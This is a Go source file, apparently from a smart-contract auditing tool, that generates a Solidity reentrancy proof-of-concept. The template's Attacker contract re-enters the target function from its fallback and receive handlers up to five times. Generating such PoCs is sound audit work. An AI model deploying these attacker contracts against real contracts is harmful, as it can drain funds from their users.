package analysis

import (
	"fmt"
	"strings"

	"github.com/avaloki108/mush-audit-sub001/internal/model"
)

const reentrancyPoCTemplate = `// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.0;

interface I%[1]s {
    function %[2]s(%[3]s) external%[4]s;
}

// Attacker is registered as the callee reached through %[5]s.
contract Attacker {
    I%[1]s public target;
    uint256 public rounds;

    constructor(address t) { target = I%[1]s(t); }

    function attack() external payable {
        target.%[2]s(%[6]s);
    }

    fallback() external payable { reenter(); }
    receive() external payable { reenter(); }

    function reenter() internal {
        if (rounds++ < 5) {
            target.%[2]s(%[6]s);
        }
    }
}
`

// ReentrancyPoC renders a minimal attacker contract re-entering entry.
func ReentrancyPoC(contract string, entry *model.FunctionModel, via string) string {
	params := make([]string, len(entry.Params))
	args := make([]string, len(entry.Params))
	for i, p := range entry.Params {
		name := p.Name
		if name == "" {
			name = fmt.Sprintf("arg%d", i)
		}
		decl := p.Type
		if p.Location != "" {
			decl += " " + p.Location
		}
		params[i] = decl + " " + name
		args[i] = zeroValue(p.Type)
	}
	payable := ""
	if entry.Mutability == "payable" {
		payable = " payable"
	}
	return fmt.Sprintf(reentrancyPoCTemplate, contract, entry.Name, strings.Join(params, ", "), payable, via, strings.Join(args, ", "))
}

func zeroValue(typ string) string {
	switch {
	case strings.HasSuffix(typ, "[]"):
		return "new " + typ + "(0)"
	case typ == "bytes", typ == "string":
		return `""`
	case strings.HasPrefix(typ, "address"):
		return "address(this)"
	case typ == "bool":
		return "true"
	case strings.HasPrefix(typ, "uint"), strings.HasPrefix(typ, "int"):
		return "1"
	case strings.HasPrefix(typ, "bytes"):
		return typ + "(0)"
	}
	return "/* " + typ + " */ 0"
}
